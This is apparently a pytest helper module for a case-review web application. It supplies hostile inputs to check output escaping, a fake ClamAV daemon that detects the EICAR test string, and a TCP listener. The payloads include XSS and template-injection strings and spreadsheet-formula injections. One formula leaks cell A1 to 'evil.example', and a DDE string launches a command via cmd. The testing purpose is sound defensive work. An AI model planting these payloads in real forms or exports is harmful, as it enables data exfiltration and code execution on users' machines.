"""What the security tests of content share: hostile payloads, a TCP port that records
every connection, a fake clamd, and reading a PDF's text and embedded files."""

import io
import socket
import struct
import threading
import time

import pytest
from pypdf import PdfReader

from tests.files import EICAR
from tests.overview.conftest import CHRONOLOGIES

# Stored XSS and template injection: typed into free text, shown escaped, never run.
SCRIPT = "<script>alert(1)</script>"
IMG_ONERROR = '"><img src=x onerror=alert(1)>'
TEMPLATE = "{{7*7}}"
XSS_PAYLOADS = (SCRIPT, IMG_ONERROR, TEMPLATE)

# The escaped form Django's autoescape gives each.
ESCAPED = {
    SCRIPT: "&lt;script&gt;alert(1)&lt;/script&gt;",
    IMG_ONERROR: "&quot;&gt;&lt;img src=x onerror=alert(1)&gt;",
    TEMPLATE: "{{7*7}}",
}


def passwd_line() -> str:
    """The first line of /etc/passwd: what a document must never contain."""
    with open("/etc/passwd", encoding="utf-8") as handle:
        return handle.readline().strip()


def pdf_text(pdf: bytes) -> str:
    """Every page's text, with runs of whitespace folded to one space."""
    reader = PdfReader(io.BytesIO(pdf))
    return " ".join(" ".join(page.extract_text().split()) for page in reader.pages)


def embedded_files(pdf: bytes) -> list[str]:
    """The files a PDF carries: its attachments and its file-attachment annotations."""
    reader = PdfReader(io.BytesIO(pdf))
    found = list(reader.attachments)
    for page in reader.pages:
        for annotation in page.get("/Annots") or []:
            if annotation.get_object().get("/Subtype") == "/FileAttachment":
                found.append("annotation")
    return found


def _recv_exact(connection, size: int) -> bytes:
    data = b""
    while len(data) < size:
        part = connection.recv(size - len(data))
        if not part:
            raise ConnectionError("closed")
        data += part
    return data


class FakeClamd:
    """A clamd on a real socket that speaks INSTREAM and finds the EICAR string."""

    def __init__(self, family=socket.AF_INET, path: str | None = None, reply: bytes = b""):
        self.server = socket.socket(family, socket.SOCK_STREAM)
        self.server.bind(path or ("127.0.0.1", 0))
        self.server.listen(4)
        self.server.settimeout(0.05)
        self.port = self.server.getsockname()[1] if path is None else None
        self.reply = reply
        self.scanned: list[tuple[bytes, bytes]] = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)
        self._thread.start()

    def _run(self) -> None:
        while not self._stop.is_set():
            try:
                connection, _ = self.server.accept()
            except TimeoutError:
                continue
            except OSError:
                return
            with connection:
                connection.settimeout(5)
                self._serve(connection)

    def _serve(self, connection) -> None:
        command = b""
        while not command.endswith(b"\0"):
            command += _recv_exact(connection, 1)
        data = b""
        while size := struct.unpack("!L", _recv_exact(connection, 4))[0]:
            data += _recv_exact(connection, size)
        self.scanned.append((command, data))
        if self.reply:
            connection.sendall(self.reply)
        elif EICAR in data:
            connection.sendall(b"stream: Eicar-Test-Signature FOUND\0")
        else:
            connection.sendall(b"stream: OK\0")

    def close(self) -> None:
        self._stop.set()
        self._thread.join(2)
        self.server.close()


class Listener:
    """A real listening TCP socket on 127.0.0.1 that records each connection it gets."""

    def __init__(self):
        self.server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.server.bind(("127.0.0.1", 0))
        self.server.listen(8)
        self.server.settimeout(0.05)
        self.port = self.server.getsockname()[1]
        self.connections: list = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)
        self._thread.start()

    def _run(self) -> None:
        while not self._stop.is_set():
            try:
                connection, address = self.server.accept()
            except TimeoutError:
                continue
            except OSError:
                return
            self.connections.append(address)
            connection.close()

    def close(self) -> list:
        """Stop listening; the connections it got, counting any still in the backlog."""
        time.sleep(0.1)
        self._stop.set()
        self._thread.join(2)
        self.server.close()
        return self.connections


# Spreadsheet formulas (CSV injection): typed into free text, exported as text.
# Lower case: the IMR checks would ask for HYPERLINK in the glossary (formulas are not
# case-sensitive).
HYPERLINK = '=hyperlink("http://evil.example/?leak="&a1,"click")'
FORMULA_PAYLOADS = (
    HYPERLINK,
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "=cmd|' /C calc'!A0",
)
# Breaks out of a <textarea> if the text in it were not escaped.
TEXTAREA_BREAK = "</textarea><script>alert(1)</script>"


def hostile_chronology() -> list[tuple]:
    """Agency A's chronology for tests/overview/conftest.py (same dates and subjects, so
    the review goes through as it does there), its events hostile."""
    return [
        ("03/02/25", "10:15", "HQM", f"{HYPERLINK} SW1 visited at home with GP1.", [1]),
        ("14/03/25", "", "HQM", f"{SCRIPT} GP1 reviewed medication.", [2]),
        ("20/09/25", "", "HQM", f"{IMG_ONERROR} {TEMPLATE} GP1 saw HQM after a fall.", [1]),
    ]


def write_hostile_overview(overview, author) -> None:
    """tests/overview/conftest.py's write_overview, every text hostile."""
    from datetime import date

    from overview import services
    from overview.models import OverviewEntry

    case_id = overview.case_id
    for key in ("introduction", "facts", "known", "analysis"):
        services.overview_section_save(
            case_id=case_id,
            by=author,
            key=key,
            text=f"{SCRIPT} {key}: {IMG_ONERROR} {TEMPLATE} {TEXTAREA_BREAK}",
            revision=None,
        )
    visit = OverviewEntry.objects.filter(overview=overview, date=date(2025, 2, 3)).first()
    services.finding_save(
        case_id=case_id,
        by=author,
        text=f"Finding {SCRIPT} {IMG_ONERROR} {TEMPLATE}",
        term_numbers=[1],
        entry_ids=[visit.pk],
    )
    nhs = overview.case.imrs.order_by("agency__name").first().agency
    services.recommendation_save(
        case_id=case_id,
        by=author,
        text=f"Recommendation {SCRIPT} {IMG_ONERROR} {TEMPLATE}",
        agency_ids=[nhs.pk],
        term_numbers=[1],
    )
    services.recommendation_save(
        case_id=case_id, by=author, text=f"{HYPERLINK} for the board", for_board=True
    )


@pytest.fixture
def hostile_started(monkeypatch, request):
    """tests/overview/conftest.py's `started`: three reviews accepted and the overview
    begun, agency A's chronology hostile."""
    monkeypatch.setitem(CHRONOLOGIES, "a", hostile_chronology())
    return request.getfixturevalue("started")


@pytest.fixture
def hostile_plans(hostile_started, overview_author, coordinator, panel_chair, chair, lead_a):
    """The hostile review carried on to accepted action plans (16): the overview written
    with hostile text, received, its summary approved, the chair's letters sent, and each
    plan written with hostile key actions and accepted. Returns the plans by agency name
    (None: the board's)."""
    from actionplans import services as plans
    from overview import services as overview_services
    from overview import summary_services as summaries
    from overview.models import ExecutiveSummary
    from scr.accounts.models import User
    from scr.deadlines import calendar
    from tests.actionplans.test_closure import send_letters, write_plan
    from tests.overview.conftest import CLEAN_SUMMARY, receive

    overview = hostile_started
    case_id = overview.case_id
    write_hostile_overview(overview, overview_author)
    overview_services.overview_submit(case_id=case_id, by=overview_author)
    receive(overview, coordinator)
    summaries.summary_start(case_id=case_id, by=overview_author)
    summary = ExecutiveSummary.objects.get(case_id=case_id)
    summaries.summary_save(
        case_id=case_id, by=overview_author, revision=summary.revision, **CLEAN_SUMMARY
    )
    summaries.summary_send_to_panel(case_id=case_id, by=overview_author)
    summaries.summary_panel_decide(case_id=case_id, by=panel_chair, agree=True)
    summaries.summary_approve(
        case_id=case_id,
        by=chair,
        criminal_proceedings="None.",
        release_date=calendar.today().replace(year=calendar.today().year + 1),
    )
    lead_c = User.objects.get(full_name="Leah Carewell")
    by_agency = send_letters(overview.case, chair)
    for name, plan in by_agency.items():
        writer = lead_c if name else coordinator
        write_plan(plan, writer, text=HYPERLINK if name else f"{SCRIPT} {IMG_ONERROR} {TEMPLATE}")
        plans.plan_submit(case_id=case_id, by=writer, plan_id=plan.pk)
        plans.plan_decide(case_id=case_id, by=coordinator, plan_id=plan.pk, accept=True)
    return by_agency
